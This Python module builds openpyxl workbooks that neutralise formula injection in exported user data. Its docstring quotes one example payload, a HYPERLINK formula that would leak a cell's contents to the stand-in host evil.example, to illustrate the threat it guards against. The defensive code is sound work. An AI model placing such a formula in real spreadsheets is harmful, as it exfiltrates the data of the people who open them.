"""Writing .xlsx files whose cells a spreadsheet program never runs as formulas.

Names, minutes and reasons come from users; a party organisation called
``=HYPERLINK("http://evil.example/?leak="&B2,"…")`` must reach the reader as text. Every export
makes its workbook with `new_workbook()` and turns it into bytes with `workbook_bytes()`:

- in an ordinary workbook every cell is checked when it is saved, however it was written;
- in a write-only workbook (streamed, nothing is kept to check later) each appended row is
  checked as it is appended.

A text that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is written as text
with an apostrophe in front. `tests/test_architecture.py` fails when a module other than this one
makes an openpyxl `Workbook` itself.
"""

import io
from collections.abc import Iterable

from openpyxl import Workbook
from openpyxl.cell.cell import Cell

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def as_text(value):
    """`value`, with an apostrophe in front when it is text a spreadsheet would evaluate."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return QUOTE + value
    return value


def read_text(value: str) -> str:
    """The text an export wrote through `as_text`, without the apostrophe (for files read back)."""
    if value.startswith(QUOTE) and value[1:].startswith(FORMULA_START):
        return value[1:]
    return value


def _neutralise(cell) -> None:
    value = cell.value
    if cell.data_type == "f" or (isinstance(value, str) and value.startswith(FORMULA_START)):
        cell.value = QUOTE + (value if isinstance(value, str) else str(getattr(value, "text", value)))
        cell.data_type = "s"


def _safe_row(row: Iterable) -> list:
    values = []
    for value in row:
        if isinstance(value, Cell):
            _neutralise(value)
            values.append(value)
        else:
            values.append(as_text(value))
    return values


class SafeWorkbook(Workbook):
    """A workbook that writes no live formula (see the module's docstring)."""

    def create_sheet(self, title=None, index=None):
        sheet = super().create_sheet(title=title, index=index)
        if self.write_only:
            # A streamed sheet keeps no cells to check at save time: check each row on its way in.
            plain_append = sheet.append
            sheet.append = lambda row: plain_append(_safe_row(row))
        return sheet

    def save(self, filename):
        if not self.write_only:
            for ws in self.worksheets:
                for row in ws.iter_rows():
                    for cell in row:
                        _neutralise(cell)
        super().save(filename)


def new_workbook(*, write_only: bool = False) -> SafeWorkbook:
    return SafeWorkbook(write_only=write_only)


def workbook_bytes(wb: SafeWorkbook) -> bytes:
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()
